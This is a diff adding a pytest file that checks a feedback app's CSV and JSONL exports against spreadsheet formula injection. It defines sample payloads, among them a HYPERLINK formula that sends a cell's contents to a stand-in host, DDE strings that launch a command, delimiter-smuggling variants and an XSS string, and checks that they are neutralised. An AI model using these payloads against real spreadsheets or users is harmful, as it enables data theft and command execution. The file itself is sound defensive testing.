@@ -1,0 +1,90 @@
+"""S13: what people write is text in every export, also where a spreadsheet would run it."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+from feedback.writing import cell
+from tests.abuse import sample_company
+
+ingested, parts, enter = sample_company.ingested, sample_company.parts, sample_company.enter
+Enter = sample_company.Enter
+
+ALICE, FATIMA = "alice@cryodyne.example", "fatima@cryodyne.example"
+LINK = '=HYPERLINK("http://other.example/?d="&A1,"look")'
+PAYLOADS = (
+    LINK,
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1+9)*cmd|" /C calc"!A0',
+    "＝1+1",
+    f"fine;{LINK}",
+    f"fine\t{LINK}",
+    f'fine"\n{LINK}',
+    f",{LINK}",
+    '<img src=x onerror=alert(1)>"><script>alert(1)</script>',
+)
+RUN = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+async def exported(enter: Enter, payload: str, dataset: str, form: str) -> tuple[str, str]:
+    """Ask and comment with the payload, and export; gives the file and its kind."""
+    alice = enter(ALICE)
+    turn = (
+        await alice.post(
+            "/api/v1/assistants/medical-information/ask", json={"question": payload + " Qavoretin"}
+        )
+    ).json()
+    reply = await alice.put(
+        f"/api/v1/turns/{turn['turn_id']}/reaction",
+        json={"emoji": "🙁", "reasons": ["Wrong"], "comment": payload},
+    )
+    assert reply.status_code == 200
+    file = await enter(FATIMA).get(f"/api/v1/export/{dataset}", params={"format": form})
+    assert "attachment" in file.headers["content-disposition"]
+    return file.content.decode("utf-8-sig"), file.headers["content-type"]
+
+
+@pytest.mark.parametrize("dataset", ["turns", "reactions", "transcripts"])
+@pytest.mark.parametrize("payload", PAYLOADS)
+async def test_s13_no_cell_of_a_spreadsheet_begins_with_what_it_would_run(
+    enter: Enter, payload: str, dataset: str
+) -> None:
+    text, kind = await exported(enter, payload, dataset, "csv")
+
+    assert kind.startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    cells = [value for row in rows[1:] for value in row]
+    assert [value for value in cells if payload.strip()[-12:] in value]
+    assert [value for value in cells if value.startswith(RUN)] == []
+    # A spreadsheet of another language cuts the same line at other signs.
+    for separator in ";\t":
+        for value in (
+            part.strip('"') for line in rows for v in line for part in v.split(separator)
+        ):
+            assert not value.startswith("=HYPERLINK")
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+async def test_s13_json_lines_hold_what_was_written_and_nothing_else(
+    enter: Enter, payload: str
+) -> None:
+    text, _ = await exported(enter, payload, "reactions", "jsonl")
+
+    (row,) = [json.loads(line) for line in text.splitlines()]
+    assert row["comment"] == payload.strip()
+
+
+@pytest.mark.parametrize("sign", RUN)
+def test_s13_every_sign_that_begins_a_formula_is_neutralised(sign: str) -> None:
+    assert cell(f"{sign}1+1") == f"'{sign}1+1"
+    assert cell(f"a; {sign}1+1") == f"a; '{sign}1+1" or sign in "\t\r"
+
+
+@pytest.mark.parametrize("honest", ["All good ;-)", "a; b", "5 - 3", "30 mg/day", "it's fine"])
+def test_s13_honest_text_stays_as_it_is(honest: str) -> None:
+    assert cell(honest) == honest
